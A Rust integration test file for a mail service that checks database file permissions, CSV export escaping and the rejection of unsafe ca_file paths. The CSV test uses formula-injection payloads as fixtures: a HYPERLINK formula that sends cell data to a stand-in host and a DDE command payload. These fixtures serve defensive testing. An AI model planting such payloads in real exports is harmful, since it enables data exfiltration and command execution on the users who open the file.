//! What the service leaves on disk and hands out as files, against the real
//! binary (issue 20, item 14): the database is its user's alone, a CSV
//! export cannot run in a spreadsheet, and a `ca_file` is read only when it
//! is a small regular file.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::mailproc::Mailproc;
use mailproc::actions::Action;
use mailproc::store::{EmailMeta, Outcome, Status, Store};
use mailproc::timestamp::now_ms;

const TOKEN: &str = "server-token-0123456789";

fn mode(p: &std::path::Path) -> u32 {
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o777
}

/// The database, its `-wal` and `-shm` are 0600 and a directory made for
/// them 0700, whatever the umask it was started with (not by systemd,
/// whose unit sets one); an existing world-readable database is narrowed.
#[test]
fn the_database_is_readable_by_its_owner_only() {
    let m = Mailproc::start(&format!(
        "server: {{ port: {{PORT}}, auth_token: {TOKEN} }}\nstorage: {{ path: \"{{DIR}}/state/sub/mailproc.db\" }}\n"
    ));
    let db = m.dir.path().join("state/sub/mailproc.db");
    // The test runner's umask lets group and others read what it creates;
    // the service's must not.
    assert_eq!(mode(&m.dir.path().join("state")), 0o700);
    assert_eq!(mode(&m.dir.path().join("state/sub")), 0o700);
    for suffix in ["", "-wal", "-shm"] {
        let p = std::path::PathBuf::from(format!("{}{suffix}", db.display()));
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
    drop(m);

    // A database someone made world-readable before.
    let mut m = Mailproc::prepare(&format!(
        "server: {{ port: {{PORT}}, auth_token: {TOKEN} }}\nstorage: {{ path: \"{{DIR}}/mailproc.db\" }}\n"
    ));
    drop(Store::open(&m.db_path()).unwrap());
    std::fs::set_permissions(m.db_path(), std::fs::Permissions::from_mode(0o644)).unwrap();
    m.spawn(&[]);
    m.wait_ready();
    assert_eq!(mode(&m.db_path()), 0o600);
    assert_eq!(mode(&m.dir.path().join("mailproc.db-wal")), 0o600);
}

/// A subject, a sender, a model's reasoning: strangers write them, and in
/// a spreadsheet a cell starting with `=`, `+`, `-` or `@` is a formula.
#[test]
fn a_csv_export_holds_no_formulas() {
    let m = Mailproc::prepare(&format!(
        "server: {{ port: {{PORT}}, auth_token: {TOKEN} }}\nstorage: {{ path: \"{{DIR}}/mailproc.db\" }}\n"
    ));
    let store = Store::open(&m.db_path()).unwrap();
    let meta = EmailMeta {
        account: "personal".into(),
        mailbox: "INBOX".into(),
        uidvalidity: 1,
        uid: 7,
        message_id: "@<id@example.test>".into(),
        subject: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into(),
        from: "+1 555@example.test".into(),
    };
    let outcome = Outcome {
        status: Status::Ok,
        actions: vec![Action::Read],
        model: "-2+3".into(),
        reasoning: "\t=cmd|' /C calc'!A0".into(),
        ..Default::default()
    };
    store.insert_history(&meta, &outcome, now_ms()).unwrap();
    drop(store);
    let mut m = m;
    m.spawn(&[]);
    m.wait_ready();
    let r = m.get_with("/api/export?format=csv", TOKEN);
    assert_eq!(r.status, 200, "{}", r.text);
    let mut rows = csv::Reader::from_reader(r.text.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let row = rows.records().next().expect("one row").unwrap();
    let cell = |name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row.get(i).unwrap().to_string()
    };
    assert_eq!(
        cell("subject"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell("from"), "'+1 555@example.test");
    assert_eq!(cell("model"), "'-2+3");
    assert_eq!(cell("messageId"), "'@<id@example.test>");
    assert_eq!(cell("reasoning"), "'\t=cmd|' /C calc'!A0");
    assert_eq!(cell("account"), "personal", "plain text stays as it is");
    for (i, c) in row.iter().enumerate() {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "column {} starts a formula: {c:?}",
            &headers[i]
        );
    }
    // JSON is data, not a spreadsheet: as stored.
    let j = m.get_with("/api/export?format=json", TOKEN);
    assert_eq!(j.body[0]["subject"], meta.subject);
}

/// `ca_file: /dev/zero` was read until memory ran out; a FIFO blocked for
/// ever. Every `ca_file` the configuration names (IMAP, OAuth2, provider)
/// is refused unless it is a regular file of at most 1 MiB. Run under a
/// 1 GiB address-space limit, so the old behaviour fails fast.
#[test]
fn a_ca_file_must_be_a_small_regular_file() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("ca.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success(), "mkfifo (coreutils) failed");
    let big = dir.path().join("big.pem");
    std::fs::write(&big, vec![b'-'; (1 << 20) + 1]).unwrap();
    let config = dir.path().join("config.yaml");
    std::fs::write(
        &config,
        format!(
            "storage: {{ path: \"{dir}/mailproc.db\" }}\n\
             classifier:\n  providers:\n    - {{ name: p, kind: openai, url: \"https://api.example.com/v1\", model: m, ca_file: {big} }}\n\
             accounts:\n  - name: a\n    imap: {{ host: h.example, username: u, password: p, ca_file: /dev/zero }}\n\
             \x20 - name: b\n    imap: {{ host: h.example, username: u, auth: oauth2, oauth2: {{ token_url: \"https://t.example/token\", client_id: c, refresh_token: r, ca_file: {fifo} }} }}\n",
            dir = dir.path().display(),
            big = big.display(),
            fifo = fifo.display(),
        ),
    )
    .unwrap();
    let mut child = Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" --config \"$1\" check-config")
        .arg(common::mailproc::bin())
        .arg(&config)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Progress, not speed: it ends by itself (a generous limit only keeps
    // a hung run from hanging the suite).
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("check-config did not finish: a ca_file was waited on");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(status.code(), Some(1), "{err}");
    for want in [
        "accounts[0].imap.ca_file: /dev/zero is not a regular file".to_string(),
        format!(
            "accounts[1].imap.oauth2.ca_file: {} is not a regular file",
            fifo.display()
        ),
        format!(
            "classifier.providers[0].ca_file: {} is larger than 1 MiB",
            big.display()
        ),
    ] {
        assert!(err.contains(&want), "no {want:?} in:\n{err}");
    }
}
